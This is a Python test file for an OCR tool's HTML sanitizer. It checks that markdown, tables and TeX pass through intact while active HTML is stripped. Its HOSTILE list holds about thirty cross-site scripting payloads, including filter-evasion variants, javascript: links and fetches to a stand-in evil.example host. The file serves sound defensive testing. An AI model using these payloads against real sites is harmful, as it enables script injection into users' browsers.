"""sanitize_html: the model's markdown keeps its text, tables and TeX, and loses its active HTML.

Each hostile case is checked the way two kinds of viewer read the .md: a markdown renderer that
passes HTML through (markdown-it with html on), and a lenient one that takes the whole file for
HTML (Python's HTML tokenizer, which splits tags as a browser does).
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from ocrdesk.engine import Formula, sanitize_html, split_math
from tests.conftest import CORPUS, MODEL_OUTPUTS, need

_FORBIDDEN_TAGS = {"script", "style", "iframe", "meta", "link", "object", "embed", "base", "form"}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def _elements(markup: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    return parser.tags


def _active(markup: str) -> list[str]:
    """What in this HTML could run script or reach the network."""
    found = []
    for tag, attrs in _elements(markup):
        if tag in _FORBIDDEN_TAGS:
            found.append(tag)
        for name, value in attrs.items():
            v = "".join(value.split()).lower()
            if name.startswith("on"):
                found.append(f"{tag} {name}")
            inline = v.startswith(("data:image/", "#"))
            # A link to the web is not active; a link's script or an image's fetch is.
            link = tag == "a" and name == "href" and v.startswith(("http:", "https:", "mailto:"))
            if name in ("src", "href") and not (inline or link):
                found.append(f"{tag} {name}={value}")
    return found


_RENDER = MarkdownIt("commonmark", {"html": True}).enable("table")
# markdown-it refuses javascript: links itself; the lenient reader below is the one that would not.
_RENDER.validateLink = lambda url: True  # type: ignore[method-assign]

HOSTILE = [
    "x <script>alert(1)</script> y",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="https://evil.example/t.png" alt="t">',
    "<img src=//evil.example/t.png>",
    "<img src=x onerror=alert(1)//>",
    "<img/src=x/onerror=alert(1)>",
    '<a href="javascript:alert(1)">t</a>',
    '<a href=" java\tscript:alert(1)">t</a>',
    '<a href="&#106;avascript:alert(1)">t</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<svg><script>alert(1)</script></svg>",
    '<div onclick="alert(1)" style="x">d</div>',
    "<<script></script>img src=x onerror=alert(1)>",
    "<scr<script></script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)",  # never closed: a later page's `>` would close it
    "<!--><img src=x onerror=alert(1)>-->",
    '<img alt="<" src=x onerror=alert(1)>',
    "<!-- never closed <img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<https:/x/onmouseover=alert(1)>",
    "<a/onmouseover=x@b.c>",
    "[t](javascript:alert(1))",
    "[t](javascript:alert(1) 'title')",
    "![t](https://evil.example/t.png)",
    "![t](//evil.example/t.png)",
    "[r]: javascript:alert(1)\n\n[t][r]",
    '<img alt="$x$" src=x onerror="alert(1)">',
    '$"><img src=x onerror=alert(1)>$',
    "\\(<img src=x onerror=alert(1)>\\)",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_active_content_in_any_viewer(payload: str) -> None:
    clean = sanitize_html(payload)
    assert _active(clean) == [], clean
    assert _active(_RENDER.render(clean)) == [], clean
    # A page after it must not complete what it left open.
    assert _active(sanitize_html(payload) + "\n\n> next page x=1 >") == []


@pytest.mark.parametrize("payload", HOSTILE)
def test_idempotent(payload: str) -> None:
    once = sanitize_html(payload)
    assert sanitize_html(once) == once


def test_markdown_and_tex_stay_as_written() -> None:
    text = (
        "# Title\n\n> a quote\n\na < b, c > d & e; 1 &lt; 2\n\n- item *em* **strong** `x < y`\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "Inline \\(a^2 + b^2\\), display \\[\\sum_i x_i\\], dollars $x$ and $$\\frac{1}{2}$$.\n\n"
        "\\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix}\n\n"
        "[a link](https://example.org/a_(b)) and ![figure](images/p0001_0.png)"
    )
    assert sanitize_html(text) == text


def test_tables_keep_their_spans_and_lose_the_rest() -> None:
    table = (
        '<table><tr><td rowspan="2" onclick="x()">A</td><td colspan=3 style="color:red">B</td>'
        "</tr><tr><th align='left'>C</th></tr></table>"
    )
    assert sanitize_html(table) == (
        '<table><tr><td rowspan="2">A</td><td colspan="3">B</td>'
        '</tr><tr><th align="left">C</th></tr></table>'
    )


def test_inline_figures_and_anchors_stay() -> None:
    text = '<img src="data:image/png;base64,AAAA" alt="$x$"> <a href="#fn1">1</a>'
    assert sanitize_html(text) == text


def test_markup_never_closed_becomes_text_that_reads_as_written() -> None:
    # `&lt;` renders as `<` in markdown; a later `>` (the next page's) can no longer close a tag.
    assert sanitize_html("n<N and m") == "n&lt;N and m"
    assert _RENDER.render(sanitize_html("n<N and m")) == "<p>n&lt;N and m</p>\n"


def test_tex_with_less_than_is_not_taken_for_a_tag() -> None:
    # `<b` inside a formula would otherwise open a tag that `>` in the next one closes.
    clean = sanitize_html("$a<b$ and $c>d$, \\(x<y\\)")
    assert _elements(clean) == []
    assert [p.tex for p in split_math(clean) if isinstance(p, Formula)] == [
        "a< b",
        "c>d",
        "x< y",
    ]


def test_real_outputs_come_through_unchanged() -> None:
    files = sorted(need(MODEL_OUTPUTS).glob("*.txt")) + sorted(CORPUS.glob("pages/*.raw.txt"))
    for name in files:
        text = name.read_text(encoding="utf-8").rstrip()
        if text.endswith("</td"):  # an excerpt cut inside a tag
            text = text[: -len("</td")]
        assert sanitize_html(text) == text, name


def test_one_unbalanced_formula_spoils_only_itself() -> None:
    parts = split_math(
        "see \\( a + b \\] then \\(c\\) and \\[d\\] and $e$; \\( never closed, \\(f\\)"
    )
    formulas = [p for p in parts if isinstance(p, Formula)]
    assert [f.tex for f in formulas] == ["a + b", "c", "d", "e", "f"]
    assert "".join(p.source if isinstance(p, Formula) else p for p in parts).startswith("see ")


def test_a_formula_never_crosses_a_blank_line() -> None:
    parts = split_math("$$ x\n\nnext paragraph $$")
    assert not any(isinstance(p, Formula) for p in parts)
